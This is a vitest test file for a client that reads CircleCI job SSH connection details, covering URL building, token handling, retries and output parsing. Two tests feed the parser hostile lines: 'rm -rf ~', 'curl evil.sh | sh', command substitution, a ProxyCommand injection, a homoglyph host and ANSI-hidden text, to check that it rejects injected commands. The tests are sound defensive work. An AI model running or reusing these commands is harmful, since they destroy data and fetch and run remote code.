import { describe, expect, it, vi } from 'vitest';
import { type FetchJobSshOptions, fetchJobSsh, fetchViewer } from './api';
import { apiOrigin, buildDetailsUrl } from './api-address';
import { MAX_BODY_BYTES, serverWait } from './api-http';
import { readBuildDetails } from './build-details';

const ORIGIN = 'https://circleci.com';
const TOKEN = 'CCIPAT_secret-token-value';
const JOB = { vcs: 'gh', org: 'acme', project: 'api', jobNumber: 116 };
const DETAILS_URL = 'https://circleci.com/api/v1.1/project/github/acme/api/116';
const OUTPUT_HOST = 'https://circle-production-action-output.s3.amazonaws.com';
const NOW = Date.parse('2026-03-25T12:00:00Z');
const PROXY_JOB = '057f0065-7e6d-4912-921b-50917ff046a3';

interface Call {
  url: string;
  init: RequestInit;
}

type Answer = (url: string, init: RequestInit, calls: readonly Call[]) => Response | Promise<Response>;

/** A fetch that records every call and answers through `answer`. */
function fakeFetch(answer: Answer) {
  const calls: Call[] = [];
  const fetch = (async (input: RequestInfo | URL, init: RequestInit = {}) => {
    const call = { url: String(input), init };
    calls.push(call);
    return answer(call.url, init, calls);
  }) as typeof globalThis.fetch;
  return { fetch, calls };
}

const json = (body: unknown, status = 200, headers: Record<string, string> = {}) =>
  new Response(JSON.stringify(body), { status, headers: { 'Content-Type': 'application/json', ...headers } });

const outputUrl = (container: number, step: number) =>
  `${OUTPUT_HOST}/116/${container}/${step}/output?X-Amz-Expires=600&X-Amz-Signature=abc`;

const iso = (ms: number) => new Date(ms).toISOString();

interface ContainerText {
  enable?: string[];
  wait?: string[];
}

/** v1.1 build details (docs/circleci-page.md#a1-build-details) of an SSH rerun with these outputs per container. */
function details(containers: ContainerText[], more: Record<string, unknown> = {}) {
  const action = (index: number, step: number, lines: string[] | undefined, status: string, startMs: number) => ({
    index,
    step,
    name: step === 100 ? 'Enable SSH' : 'Wait for SSH',
    type: 'test',
    status,
    bash_command: null,
    has_output: lines !== undefined,
    output_url: lines === undefined ? null : outputUrl(index, step),
    start_time: iso(startMs),
    end_time: status === 'running' ? null : iso(startMs + 1000),
  });
  return {
    build_num: 116,
    parallel: containers.length,
    status: 'running',
    lifecycle: 'running',
    why: 'ssh',
    start_time: iso(NOW - 10 * 60_000),
    stop_time: null,
    ssh_users: [{ login: 'octocat', github_id: 583231 }],
    user: { login: 'octocat' },
    node: null,
    steps: [
      { name: 'Spin up environment', actions: containers.map((_, i) => ({ ...action(i, 0, ['x'], 'success', NOW) })) },
      { name: 'Enable SSH', actions: containers.map((c, i) => action(i, 100, c.enable, 'success', NOW - 9 * 60_000)) },
      { name: 'Wait for SSH', actions: containers.map((c, i) => action(i, 104, c.wait, 'running', NOW - 3 * 60_000)) },
    ],
    ...more,
  };
}

const output = (lines: string[]) => [
  { type: 'out', time: iso(NOW), message: `${lines.slice(0, 2).join('\n')}\n` },
  { type: 'out', time: iso(NOW), message: lines.slice(2).join('\n') },
];

/** Answers the build details and each output URL from `containers`. */
function site(body: unknown, containers: ContainerText[] = []): Answer {
  return (url) => {
    if (url.startsWith(`${ORIGIN}/api/`)) return json(body);
    const match = /\/116\/([0-9]+)\/([0-9]+)\/output\?/.exec(url);
    const container = containers[Number(match?.[1])];
    const lines = match?.[2] === '100' ? container?.enable : container?.wait;
    return lines ? json(output(lines)) : new Response('<Error><Code>AccessDenied</Code></Error>', { status: 403 });
  };
}

function options(fetch: typeof globalThis.fetch, more: Partial<FetchJobSshOptions> = {}) {
  const sleep = vi.fn(async (_ms: number) => undefined);
  return { apiOrigin: ORIGIN, token: TOKEN, fetch, now: () => NOW, random: () => 0.5, ...more, sleep };
}

const enable2026 = (command: string) => [
  'You can now SSH into this box if your SSH public key is added:',
  `    $ ${command}`,
  '',
  "Use the same SSH public key that you've added in your User Settings or that you use for your VCS-provider (e.g., GitHub).",
  '',
  'Host keys:',
  '- SHA256:shNGVQBnn2eCFwz3oKVH7r3012RaGYT+gR+QHXN2d40 (rsa-sha2-512)',
  'Authorized keys:',
  '- SHA256:P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8 (ED25519)',
];
const waitText = (command: string) => [
  'You can now SSH into this box if your SSH public key is added:',
  `    $ ${command}`,
  '',
  'This box will stay up for 2h0m0s, or until 10m0s passes without an active SSH session.',
];

const THREE: ContainerText[] = [
  { enable: enable2026('ssh -p 64537 18.209.34.18'), wait: waitText('ssh -p 64537 18.209.34.18') },
  { enable: enable2026('ssh -p 64540 3.88.34.152'), wait: waitText('ssh -p 64540 3.88.34.152') },
  { enable: enable2026(`ssh ${PROXY_JOB}-2@ssh.circleci.com`) },
];

describe('apiOrigin', () => {
  it.each([
    ['app.circleci.com', 'https://circleci.com'],
    ['circleci.com', 'https://circleci.com'],
    ['app.ci.example.com', 'https://ci.example.com'],
    ['APP.CI.Example.com', 'https://ci.example.com'],
  ])('%s → %s', (host, origin) => {
    expect(apiOrigin(host)).toBe(origin);
  });

  it.each(['example.com', 'app.com', 'app.', 'app.-bad.example.com', 'ci.app.example.com', 'app.1.2.3.4', ''])(
    'refuses %j',
    (host) => {
      expect(apiOrigin(host)).toBeUndefined();
    },
  );
});

describe('buildDetailsUrl', () => {
  it('names the VCS in full and encodes every path segment', () => {
    expect(buildDetailsUrl(ORIGIN, JOB)).toBe(DETAILS_URL);
    expect(buildDetailsUrl(ORIGIN, { ...JOB, vcs: 'bb' })).toBe(
      'https://circleci.com/api/v1.1/project/bitbucket/acme/api/116',
    );
    expect(buildDetailsUrl(ORIGIN, { ...JOB, vcs: 'bitbucket', org: 'a/b c', project: '..' })).toBe(
      'https://circleci.com/api/v1.1/project/bitbucket/a%2Fb%20c/../116',
    );
    expect(
      buildDetailsUrl(ORIGIN, { vcs: 'circleci', org: 'GM1mbrQEWnNbzLKEnotDo4', project: 'p?x#y', jobNumber: 7 }),
    ).toBe('https://circleci.com/api/v1.1/project/circleci/GM1mbrQEWnNbzLKEnotDo4/p%3Fx%23y/7');
  });

  it.each([
    { ...JOB, vcs: 'gitlab' },
    { ...JOB, vcs: '__proto__' },
    { ...JOB, jobNumber: 0 },
    { ...JOB, jobNumber: 1.5 },
    { ...JOB, org: '' },
  ])('refuses %j', (job) => {
    expect(buildDetailsUrl(ORIGIN, job)).toBeUndefined();
  });

  it('makes no request for a job it cannot name', async () => {
    const { fetch, calls } = fakeFetch(() => json({}));
    expect(await fetchJobSsh({ ...JOB, vcs: 'gitlab' }, options(fetch))).toEqual({ ok: false, problem: 'not-found' });
    expect(calls).toHaveLength(0);
  });
});

describe('fetchJobSsh: requests', () => {
  it('sends the token to the API only, with no cookies and no redirects', async () => {
    const { fetch, calls } = fakeFetch(site(details(THREE), THREE));
    await fetchJobSsh(JOB, options(fetch));

    const [api, ...outputs] = calls;
    expect(api?.url).toBe(DETAILS_URL);
    expect(api?.init.headers).toEqual({ 'Circle-Token': TOKEN, Accept: 'application/json' });
    expect(api?.init.credentials).toBe('omit');
    expect(api?.init.redirect).toBe('error');
    expect(api?.init.signal).toBeInstanceOf(AbortSignal);

    expect(outputs.map((call) => call.url)).toEqual([outputUrl(0, 100), outputUrl(1, 100), outputUrl(2, 100)]);
    for (const call of outputs) {
      expect(call.init.credentials).toBe('omit');
      expect(JSON.stringify(call.init)).not.toContain(TOKEN);
      expect(call.init.headers).toEqual({ Accept: 'application/json' });
    }
  });

  it('never fetches an output URL that is not https', async () => {
    const body = details(THREE);
    const enableStep = body.steps[1];
    if (enableStep?.actions[0])
      enableStep.actions[0].output_url = 'http://circle-production-action-output.s3.amazonaws.com/x';
    const { fetch, calls } = fakeFetch(site(body, THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(calls.map((call) => call.url)).not.toContain('http://circle-production-action-output.s3.amazonaws.com/x');
    // Wait for SSH stands in for it.
    expect(result.ok && result.job.containers[0]).toMatchObject({ step: 'Wait for SSH', stepId: 104 });
  });
});

describe('fetchJobSsh: SSH details', () => {
  it('reads every container: direct and proxy forms, keys, timing', async () => {
    const { fetch } = fakeFetch(site(details(THREE), THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    if (!result.ok) throw new Error(result.problem);
    const { containers, ...job } = result.job;
    expect(job).toEqual({
      parallel: 3,
      status: 'running',
      lifecycle: 'running',
      why: 'ssh',
      startTime: NOW - 10 * 60_000,
      sshUsers: ['octocat'],
      user: 'octocat',
      hasSshStep: true,
    });
    expect(containers.map((c) => [c.container, c.step, c.stepId, c.status, c.problem])).toEqual([
      [0, 'Enable SSH', 100, 'success', undefined],
      [1, 'Enable SSH', 100, 'success', undefined],
      [2, 'Enable SSH', 100, 'success', undefined],
    ]);
    expect(containers.map((c) => c.output?.commands.map((command) => command.target))).toEqual([
      [{ host: '18.209.34.18', port: 64537, tty: false }],
      [{ host: '3.88.34.152', port: 64540, tty: false }],
      [{ user: `${PROXY_JOB}-2`, host: 'ssh.circleci.com', tty: false }],
    ]);
    expect(containers[0]?.output?.authorizedKeys).toEqual([
      { hash: 'SHA256', value: 'P0nRIWAu7DDjSjJfIzu4nez3o7wr2IU+uIq45VQvIi8', algorithm: 'ED25519' },
    ]);
    expect(containers[0]).toMatchObject({ waitStartedAt: NOW - 3 * 60_000 });
    expect(containers[0]?.waitEndedAt).toBeUndefined();
  });

  it('passes the installation proxy hosts to the parser', async () => {
    const server: ContainerText[] = [{ enable: enable2026(`ssh ${PROXY_JOB}-0@ssh.ci.example.com`) }];
    const { fetch } = fakeFetch(site(details(server), server));
    const cloud = await fetchJobSsh(JOB, options(fetch));
    const own = await fetchJobSsh(JOB, options(fetch, { proxyHosts: ['ssh.ci.example.com'] }));
    expect(cloud.ok && cloud.job.containers[0]?.output?.commands).toEqual([]);
    expect(own.ok && own.job.containers[0]?.output?.commands.map((c) => c.target.host)).toEqual(['ssh.ci.example.com']);
  });

  it('falls back to Wait for SSH when Enable SSH has no output', async () => {
    const texts: ContainerText[] = [{ wait: waitText('ssh -p 42915 18.207.148.116') }];
    const { fetch, calls } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    const [container] = result.ok ? result.job.containers : [];
    expect(container).toMatchObject({ step: 'Wait for SSH', stepId: 104, status: 'running' });
    expect(container?.output?.commands.map((c) => c.target.port)).toEqual([42915]);
    expect(container?.output?.stayUp).toEqual({ maxSeconds: 7200, idleSeconds: 600 });
    expect(calls).toHaveLength(2); // no request for an action without output
  });

  it('keeps Enable SSH "Setting up SSH..." when Wait for SSH has not started', async () => {
    const texts: ContainerText[] = [{ enable: ['Setting up SSH...'] }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]).toMatchObject({ step: 'Enable SSH', output: { settingUp: true } });
  });

  it('says when no step gave output, and an expired output URL', async () => {
    const texts: ContainerText[] = [{}, { enable: ['x'] }];
    const body = details(texts);
    const { fetch } = fakeFetch((url, init, calls) =>
      url.includes('/1/100/') ? new Response('expired', { status: 403 }) : site(body, texts)(url, init, calls),
    );
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers.map((c) => [c.step, c.problem])).toEqual([
      ['Enable SSH', 'no-output'],
      ['Enable SSH', 'unavailable'],
    ]);
  });

  it('reports a job without the built-in steps, and fetches no output', async () => {
    const body = details(THREE);
    body.steps = body.steps.filter((step) => step.name === 'Spin up environment');
    const { fetch, calls } = fakeFetch(site({ ...body, why: 'github', ssh_users: [] }, THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result).toMatchObject({ ok: true, job: { hasSshStep: false, containers: [], sshUsers: [], parallel: 3 } });
    expect(calls).toHaveLength(1);
  });

  it('never reads a config step that takes the built-in name', async () => {
    const body = details(THREE);
    const impostor = {
      name: 'Enable SSH',
      actions: [
        {
          index: 0,
          step: 102,
          status: 'success',
          bash_command: 'echo',
          has_output: true,
          output_url: outputUrl(0, 102),
        },
      ],
    };
    body.steps = [body.steps[0], impostor] as typeof body.steps;
    const { fetch, calls } = fakeFetch(site(body, THREE));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result).toMatchObject({ ok: true, job: { hasSshStep: false, containers: [] } });
    expect(calls).toHaveLength(1);
  });

  it('refuses output that opens with a shell line: a run step, not CircleCI', async () => {
    const texts: ContainerText[] = [{ enable: ['#!/bin/bash -eo pipefail', 'echo', '    $ ssh -p 2222 6.6.6.6'] }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]).toMatchObject({ problem: 'config-step' });
    expect(result.ok && result.job.containers[0]?.output).toBeUndefined();
  });

  it('gives no command for hostile output', async () => {
    const hostile = [
      'You can now SSH into this box if your SSH public key is added:',
      '    $ ssh -p 22 evil; rm -rf ~',
      '    $ ssh -p 22 1.2.3.4 && curl evil.sh | sh',
      '    $ ssh -oProxyCommand=id@ssh.circleci.com',
      '    $ ssh -p 22 $(curl evil.sh)',
      '    $ ssh -p 22 1.2.3.4\u2028curl evil.sh | sh',
      '    $ ssh -p 22 ѕsh.circleci.com',
      '\x1b[8m; curl evil.sh | sh \x1b[0m$ ssh -p 22 1.2.3.4; id',
    ];
    const texts: ContainerText[] = [{ enable: hostile, wait: hostile }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    const [container] = result.ok ? result.job.containers : [];
    // The U+2028 line splits into `ssh -p 22 1.2.3.4` and a line of its own, exactly as on the page.
    expect(container?.output?.commands.map((c) => c.target)).toEqual([{ host: '1.2.3.4', port: 22, tty: false }]);
    expect(container?.output?.unrecognisedLines.length).toBeGreaterThanOrEqual(5);
  });

  it('reads no output at all when the hostile command is alone', async () => {
    const texts: ContainerText[] = [{ enable: ['    $ ssh -p 22 evil; rm -rf ~', '$ ssh -p 22 `id`'] }];
    const { fetch } = fakeFetch(site(details(texts), texts));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]?.output?.commands).toEqual([]);
  });
});

describe('fetchJobSsh: failures', () => {
  it.each([
    [401, 'unauthorized'],
    [403, 'unauthorized'],
    [404, 'not-found'],
    [400, 'server'],
  ] as const)('%d → %s, without retrying', async (status, problem) => {
    const { fetch, calls } = fakeFetch(() => json({ message: 'You must log in first.' }, status));
    const opts = options(fetch);
    expect(await fetchJobSsh(JOB, opts)).toEqual({ ok: false, problem });
    expect(calls).toHaveLength(1);
    expect(opts.sleep).not.toHaveBeenCalled();
  });

  it('waits as Retry-After says, then succeeds', async () => {
    const { fetch, calls } = fakeFetch((url, init, all) =>
      all.length === 1
        ? json({ message: 'Too many requests' }, 429, { 'Retry-After': '1' })
        : site(details(THREE), THREE)(url, init, all),
    );
    const opts = options(fetch);
    const result = await fetchJobSsh(JOB, opts);
    expect(result.ok).toBe(true);
    expect(opts.sleep).toHaveBeenCalledOnce();
    expect(opts.sleep.mock.calls[0]?.[0]).toBe(1000);
    expect(calls.filter((call) => call.url === DETAILS_URL)).toHaveLength(2);
  });

  it('gives up at once when told to wait longer than 30 s', async () => {
    const { fetch, calls } = fakeFetch(() => json({}, 429, { 'Retry-After': '120' }));
    const opts = options(fetch);
    expect(await fetchJobSsh(JOB, opts)).toEqual({ ok: false, problem: 'rate-limited', retryAfterMs: 120_000 });
    expect(calls).toHaveLength(1);
    expect(opts.sleep).not.toHaveBeenCalled();
  });

  it('reads a 403 with no requests left as a rate limit', async () => {
    const reset = String(Math.floor(NOW / 1000) + 90);
    const { fetch } = fakeFetch(() => json({}, 403, { 'X-RateLimit-Remaining': '0', 'X-RateLimit-Reset': reset }));
    expect(await fetchJobSsh(JOB, options(fetch))).toEqual({
      ok: false,
      problem: 'rate-limited',
      retryAfterMs: 90_000,
    });
  });

  it('retries a 500 after a jittered backoff, then succeeds', async () => {
    const { fetch } = fakeFetch((url, init, all) =>
      all.length === 1 ? json({ message: 'oops' }, 500) : site(details(THREE), THREE)(url, init, all),
    );
    const opts = options(fetch);
    expect((await fetchJobSsh(JOB, opts)).ok).toBe(true);
    // 500 ms ceiling for the first retry, half of it fixed, half jittered (random() = 0.5).
    expect(opts.sleep.mock.calls.map(([ms]) => ms)).toEqual([375]);
  });

  it('stops after the retries, backing off more each time', async () => {
    const { fetch, calls } = fakeFetch(() => json({}, 503));
    const opts = options(fetch, { random: () => 0 });
    expect(await fetchJobSsh(JOB, opts)).toEqual({ ok: false, problem: 'server' });
    expect(calls).toHaveLength(3);
    expect(opts.sleep.mock.calls.map(([ms]) => ms)).toEqual([250, 500]);
  });

  it('keeps the last rate-limit wait when the retries run out', async () => {
    const { fetch, calls } = fakeFetch(() => json({}, 429, { 'Retry-After': '2' }));
    const opts = options(fetch, { retries: 1 });
    expect(await fetchJobSsh(JOB, opts)).toEqual({ ok: false, problem: 'rate-limited', retryAfterMs: 2000 });
    expect(calls).toHaveLength(2);
  });

  it('retries network errors', async () => {
    const { fetch, calls } = fakeFetch(() => Promise.reject(new TypeError('Failed to fetch')));
    expect(await fetchJobSsh(JOB, options(fetch))).toEqual({ ok: false, problem: 'network' });
    expect(calls).toHaveLength(3);
  });

  it('times out a request that never answers', async () => {
    const { fetch, calls } = fakeFetch(
      (_url, init) =>
        new Promise<Response>((_resolve, reject) => {
          init.signal?.addEventListener('abort', () => reject(new DOMException('aborted', 'AbortError')));
        }),
    );
    expect(await fetchJobSsh(JOB, options(fetch, { timeoutMs: 5, retries: 1 }))).toEqual({
      ok: false,
      problem: 'timeout',
    });
    expect(calls).toHaveLength(2);
  });

  it('stops when the caller aborts', async () => {
    const controller = new AbortController();
    const { fetch, calls } = fakeFetch(
      (_url, init) =>
        new Promise<Response>((_resolve, reject) => {
          init.signal?.addEventListener('abort', () => reject(new DOMException('aborted', 'AbortError')));
          controller.abort();
        }),
    );
    expect(await fetchJobSsh(JOB, options(fetch, { signal: controller.signal }))).toEqual({
      ok: false,
      problem: 'aborted',
    });
    expect(calls).toHaveLength(1);
  });

  it('refuses a body that is not JSON, without retrying', async () => {
    const { fetch, calls } = fakeFetch(() => new Response('{"steps": [', { status: 200 }));
    expect(await fetchJobSsh(JOB, options(fetch))).toEqual({ ok: false, problem: 'malformed' });
    expect(calls).toHaveLength(1);
  });

  it.each([[[]], [null], ['steps'], [{}], [{ steps: 'x' }], [{ steps: { 0: {} } }]])(
    'refuses a body of the wrong shape: %j',
    async (body) => {
      const { fetch } = fakeFetch(() => json(body));
      expect(await fetchJobSsh(JOB, options(fetch))).toEqual({ ok: false, problem: 'malformed' });
    },
  );

  it('refuses a body announced or found larger than 2 MB', async () => {
    const announced = fakeFetch(
      () => new Response('{}', { headers: { 'Content-Length': String(MAX_BODY_BYTES + 1) } }),
    );
    expect(await fetchJobSsh(JOB, options(announced.fetch))).toEqual({ ok: false, problem: 'malformed' });
    const found = fakeFetch(() => new Response(`{"steps":[],"x":"${'x'.repeat(MAX_BODY_BYTES)}"}`));
    expect(await fetchJobSsh(JOB, options(found.fetch))).toEqual({ ok: false, problem: 'malformed' });
  });

  it('marks output that is not the documented JSON as malformed', async () => {
    const texts: ContainerText[] = [{ enable: ['x'] }];
    const { fetch } = fakeFetch((url) => (url.startsWith(ORIGIN) ? json(details(texts)) : json({ message: 'x' })));
    const result = await fetchJobSsh(JOB, options(fetch));
    expect(result.ok && result.job.containers[0]).toMatchObject({ problem: 'malformed' });
  });
});

describe('readBuildDetails', () => {
  it('leaves out what is missing or mistyped, and keeps the rest', () => {
    const read = readBuildDetails({
      parallel: 'eight',
      status: 5,
      lifecycle: null,
      start_time: 'yesterday',
      stop_time: '2026-03-25T12:00:00.123Z',
      ssh_users: [{ login: 'octocat' }, { login: 7 }, 'mallory', null],
      user: 'octocat',
      steps: [
        null,
        { name: 5, actions: [] },
        { name: 'Enable SSH' },
        {
          name: 'Wait for SSH',
          actions: [
            { index: -1 },
            { index: '0' },
            { index: 0.5 },
            { index: 2, step: 'x', status: null, output_url: 42, has_output: 'yes', start_time: 'now' },
          ],
        },
      ],
    });
    expect(read).toEqual({
      steps: [
        { name: 'Enable SSH', actions: [] },
        { name: 'Wait for SSH', actions: [{ index: 2, status: 'unknown', hasOutput: false, fromConfig: false }] },
      ],
      stopTime: Date.parse('2026-03-25T12:00:00.123Z'),
      sshUsers: ['octocat'],
    });
  });
});

describe('serverWait', () => {
  const headers = (init: Record<string, string>) => new Headers(init);
  it.each([
    [{ 'Retry-After': '7' }, 7000],
    [{ 'Retry-After': new Date(NOW + 12_000).toUTCString() }, 12_000],
    [{ 'Retry-After': new Date(NOW - 12_000).toUTCString() }, 0],
    [{ 'X-RateLimit-Reset': '20' }, 20_000],
    [{ 'X-RateLimit-Reset': String(NOW / 1000 + 45) }, 45_000],
    [{ 'Retry-After': 'soon', 'X-RateLimit-Reset': '3' }, 3000],
    [{ 'Retry-After': '-1' }, undefined],
    [{}, undefined],
  ])('%j → %s', (init, ms) => {
    expect(serverWait(headers(init), NOW)).toBe(ms);
  });
});

describe('fetchViewer', () => {
  it('asks /me with the token, once, and reads the login', async () => {
    const { fetch, calls } = fakeFetch(() => json({ login: 'ada', name: 'Ada' }));
    expect(await fetchViewer(ORIGIN, TOKEN, { fetch })).toBe('ada');
    expect(calls.map((call) => call.url)).toEqual(['https://circleci.com/api/v1.1/me']);
    expect(calls[0]?.init).toMatchObject({
      headers: { 'Circle-Token': TOKEN },
      credentials: 'omit',
      redirect: 'error',
    });
  });

  it('is undefined on a failure or an answer without a login, and does not retry', async () => {
    const failing = fakeFetch(() => json({ message: 'nope' }, 500));
    expect(await fetchViewer(ORIGIN, TOKEN, { fetch: failing.fetch })).toBeUndefined();
    expect(failing.calls).toHaveLength(1);
    expect(await fetchViewer(ORIGIN, TOKEN, { fetch: fakeFetch(() => json({ login: 42 })).fetch })).toBeUndefined();
  });
});
